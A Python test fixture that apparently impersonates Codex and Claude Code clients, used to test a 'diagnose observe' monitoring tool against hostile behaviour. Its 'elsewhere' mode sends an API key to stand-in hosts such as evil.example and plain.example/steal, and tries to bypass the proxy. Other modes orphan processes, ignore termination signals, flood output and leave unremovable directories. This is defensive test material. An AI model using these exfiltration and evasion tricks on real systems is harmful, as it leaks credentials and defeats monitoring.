#!/usr/bin/env python3
"""A client for tests of `diagnose observe`, well-behaved or hostile: client.py MODE [ARGUMENT].

Under the name codex it is a Codex with a home of its own: it answers --version, looks at its copies, and takes its base
URL from -c. Under the name claude it is a Claude Code, whose settings hold variables. It uses nothing but sockets, so that it decides itself where a request goes.
"""
import json
import os
import pathlib
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.parse

KEY = os.environ.get("OPENAI_API_KEY", "")
TRIES_MAX = 3


def exchange(url, head, body=b""):
    """Status of the answer to raw bytes sent to the host of a URL."""
    parts = urllib.parse.urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as connection:
        connection.sendall(head.encode() + body)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
            if b"\r\n\r\n" in answer:
                break
    return int(answer.split()[1]), answer.decode("latin-1")


def ask(base, model, extra="", path="/responses", key=KEY):
    url = base + path
    parts = urllib.parse.urlsplit(url)
    body = json.dumps({"model": model, "input": "ping"}).encode()
    target = parts.path + ("?" + parts.query if parts.query else "")
    head = (f"POST {target} HTTP/1.1\r\nHost: {parts.netloc}\r\nAuthorization: Bearer {key}\r\nX-Team: blue\r\n"
            f"Cookie: session=s3cr3t-cookie\r\nConnection: close\r\n{extra}Content-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n")
    return exchange(url, head, body)


def patient(models):
    """Tries each model up to three times; waits for nothing."""
    base = os.environ["OPENAI_BASE_URL"]
    for model in models:
        for _ in range(TRIES_MAX):
            status, answer = ask(base, model)
            if status == 200:
                print("pong")
                return 0
            if "retry-after" not in answer.lower() and status != 503:
                break
    print(f"noise\nClientError: gave up with {status}, key {KEY}\x1b[31m\u202e\n    at some.trace (1)", file=sys.stderr)
    return 1


def endless():
    ask(os.environ["OPENAI_BASE_URL"], "m")
    block = b"x" * 65536
    while True:
        os.write(1, block)
        os.write(2, block)


def forks_away(report):
    """Leaves a process in another session, whose parent is gone, and ends."""
    ask(os.environ["OPENAI_BASE_URL"], "m")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open(report, "w", encoding="ascii") as out:
                out.write(str(os.getpid()))
            os.close(1)
            os.close(2)
            time.sleep(600)
        os._exit(0)
    os.wait()
    while not pathlib.Path(report).exists() or not pathlib.Path(report).read_text(encoding="ascii"):
        time.sleep(0.01)
    return 0


def buried():
    """Leaves a directory that is deeper than any path is long, closed to its owner."""
    ask(os.environ["OPENAI_BASE_URL"], "m")
    os.chdir(next(pathlib.Path(os.environ["TMPDIR"]).glob("diagnose-*")))
    for _ in range(300):
        os.mkdir("d" * 20)
        os.chdir("d" * 20)
    os.chmod(".", 0)
    return 0


def stubborn():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    ask(os.environ["OPENAI_BASE_URL"], "m")
    subprocess.run([sys.executable, "-c", "import signal, time; signal.signal(15, signal.SIG_IGN); time.sleep(600)"],
                   check=False)
    return 0


def elsewhere(port):
    """Takes the key to other hosts in every way that proxies know, and past them."""
    proxy = os.environ["HTTPS_PROXY"]
    print(exchange(proxy, f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n"
                          f"Proxy-Authorization: Basic {KEY}\r\n\r\n")[0])
    print(exchange(proxy, f"GET http://plain.example/steal?key={KEY} HTTP/1.1\r\nHost: plain.example\r\n"
                          f"Authorization: Bearer {KEY}\r\n\r\n")[0])
    own = urllib.parse.urlsplit(proxy).netloc
    print(exchange(proxy, f"POST http://{own}/v1/responses HTTP/1.1\r\nHost: {own}\r\nContent-Length: 13\r\n"
                          f"Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n", b'{"model":"m"}')[0])
    try:
        print(exchange(f"http://127.0.0.1:{port}", f"GET /?key={KEY} HTTP/1.0\r\n\r\n")[0])
    except OSError as why:
        print("past the proxy:", why.strerror)
    return 0


def upgrade():
    base = os.environ["OPENAI_BASE_URL"]
    parts = urllib.parse.urlsplit(base)
    print(exchange(base, f"GET {parts.path}/responses HTTP/1.1\r\nHost: {parts.netloc}\r\nUpgrade: websocket\r\n"
                         f"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: aaaa\r\n\r\n")[0])
    return patient(["m"])


def codex(words):
    if "--version" in words:
        print("codex-cli 0.171.0")
        return 0
    home = pathlib.Path(os.environ["CODEX_HOME"])
    config = (home / "config.toml").read_text(encoding="utf-8")
    modes = {oct(path.stat().st_mode & 0o777) for path in [home / "config.toml", home / "auth.json"]}
    settings = dict(word.split("=", 1) for word in words if "=" in word)
    if re.search("mcp_servers|notify|hooks", config) or modes != {"0o600"} or "REFRESH" not in "".join(os.environ):
        print("ERROR: the copy is wrong", config, modes, file=sys.stderr)
        return 3
    (home / "left-behind").write_text("state", encoding="ascii")
    with open(os.environ["SEEN"], "a", encoding="ascii") as out:
        out.write(f"{os.getcwd()}\n{home}\n")
    key = json.loads((home / "auth.json").read_text(encoding="ascii"))["OPENAI_API_KEY"]
    base = settings["model_providers.mine.base_url"].strip('"')
    status, _ = ask(base, re.search('"model" = "([^"]*)"', config)[1], key=key)
    profile = words[words.index("--profile") + 1] if "--profile" in words else "none"
    files = sorted(path.name for path in home.glob("*.config.toml") if "notify" not in path.read_text(encoding="utf-8"))
    print(f"profile {profile} of {files}", file=sys.stderr)
    print(f"status {status}, {os.environ.get('FROM_DOTENV')}, {words[-1] if '-c' not in words[-2] else 'settings last'}")
    return 0 if status == 200 else 1


def claude(words):
    if "--version" in words:
        print("2.1.332 (Claude Code)")
        return 0
    settings = json.loads(pathlib.Path(os.environ["CLAUDE_CONFIG_DIR"], "settings.json").read_text(encoding="utf-8"))
    status, _ = ask(os.environ["ANTHROPIC_BASE_URL"], settings["model"], path="/v1/messages", key="sk-ant-oat01-x")
    print(f"status {status}, {sorted(settings)}, {os.environ['FROM_SETTINGS']}, {words}")
    return 0


def main():
    if os.path.basename(sys.argv[0]) == "claude":
        return claude(sys.argv[1:])
    if os.path.basename(sys.argv[0]) == "codex":
        return codex(sys.argv[1:])
    mode, rest = sys.argv[1], sys.argv[2:]
    modes = {"patient": lambda: patient(rest), "endless": endless, "buried": buried,
             "stubborn": stubborn, "upgrade": upgrade,
             "forks-away": lambda: forks_away(*rest), "elsewhere": lambda: elsewhere(*rest), "silent": lambda: 7,
             "killed": lambda: os.kill(os.getpid(), signal.SIGKILL)}
    return modes[mode]()


sys.exit(main())
